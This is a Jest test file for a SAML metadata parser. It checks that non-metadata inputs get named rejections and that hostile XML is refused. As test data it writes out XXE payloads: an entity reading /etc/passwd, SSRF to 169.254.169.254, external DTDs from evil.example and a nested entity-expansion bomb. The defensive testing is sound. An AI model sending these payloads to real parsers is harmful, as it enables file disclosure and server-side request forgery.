import { beforeAll, describe, expect, test } from '@jest/globals';
import { issueCertificate } from '../../support/saml/issue-certificate.ts';
import {
  group,
  type Parts,
  SAML2,
  sentence,
  entity as writeEntity,
} from '../../support/saml/provider-metadata.ts';

let pem: string;

beforeAll(async () => {
  pem = (await issueCertificate()).certificatePem;
});

const entity = (parts: Parts = {}): string => writeEntity(pem, parts);

describe('other documents are rejected with a sentence that names what they are', () => {
  test.each([
    ['nothing', ' \n', /^The metadata is empty/],
    ['a web page', '<!DOCTYPE html><html><body>Sign in</body></html>', /^This is a web page/],
    ['a web page without a doctype', '\n<html>', /^This is a web page/],
    ['an address', 'https://idp.example/metadata', /an address/],
    ['a discovery document', '{"issuer":"https://idp.example"}', /JSON.*OpenID Connect/],
    ['a certificate', '-----BEGIN CERTIFICATE-----\nMII', /a certificate/],
    ['words', 'see attachment', /begins with <EntityDescriptor/],
    ['half of it', '<md:EntityDescriptor', /not well-formed/],
    ['an unbound prefix', '<md:EntityDescriptor/>', /not well-formed/],
    ['a response', `<samlp:Response xmlns:samlp="${SAML2}"/>`, /no SAML 2.0 metadata: it is a “Response”/],
    ['an entity of no namespace', '<EntityDescriptor entityID="a"/>', /no SAML 2.0 metadata/],
    ['of SAML 1', '<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:1.0:metadata"/>', /no SAML 2.0 metadata/],
    ['an empty group', group(''), /describes no identity provider/],
  ])('%s', (_, xml, expected) => {
    expect(sentence(xml)).toMatch(expected);
  });
});

describe('XML that attacks is rejected', () => {
  const good = () => entity();

  test.each([
    ['a file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['an address', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
    ['a DTD elsewhere', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'],
    ['entities of entities', '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>'],
    ['nothing', '<!DOCTYPE x>'],
  ])('a DOCTYPE that names %s', (_, doctype) => {
    expect(sentence(doctype + good())).toMatch(/^The metadata holds a DOCTYPE/);
    expect(sentence(good().replace('<md:IDPSSO', `${doctype}<md:IDPSSO`))).toMatch(/DOCTYPE|well-formed/);
  });

  test('an entity that no one declared', () => {
    expect(sentence(entity({ entityId: '&e;' }))).toMatch(/not well-formed/);
  });

  test('a processing instruction, CDATA, another encoding', () => {
    expect(sentence(`<?xml-stylesheet href="x"?>${good()}`)).toMatch(/processing instruction/);
    expect(sentence(entity({ after: '<![CDATA[x]]>' }))).toMatch(/CDATA/);
    expect(sentence(`<?xml version="1.0" encoding="UTF-16"?>${good()}`)).toMatch(/encoding/);
  });

  test('more than 1 MiB, though a little less is read', () => {
    const padded = (characters: number) => `${good()}<!--${'x'.repeat(characters)}-->`;
    const room = 1_024 * 1_024 - padded(0).length;
    expect(sentence(padded(room))).toBe('accepted');
    expect(sentence(padded(room + 1))).toMatch(/larger than 1 MiB/);
  });

  test.each([
    ['depth', '<md:Extensions>'.repeat(50) + '</md:Extensions>'.repeat(50), /deeper than/],
    ['elements', '<md:Extensions/>'.repeat(25_000), /more than 20000 elements/],
    [
      'attributes',
      `<md:Extensions ${Array.from({ length: 70 }, (_, n) => `a${n}=""`).join(' ')}/>`,
      /more than 64 attributes/,
    ],
    ['references', '&#65;'.repeat(25_000), /references/],
  ])('too much of it: %s', (_, after, expected) => {
    expect(sentence(entity({ after }))).toMatch(expected);
  });

  test('within its bounds the worst of it is read in no time', () => {
    const worst = group('<md:EntityDescriptor entityID="x"/>'.repeat(18_000) + entity());
    const began = performance.now();
    expect(sentence(worst)).toBe('accepted');
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});
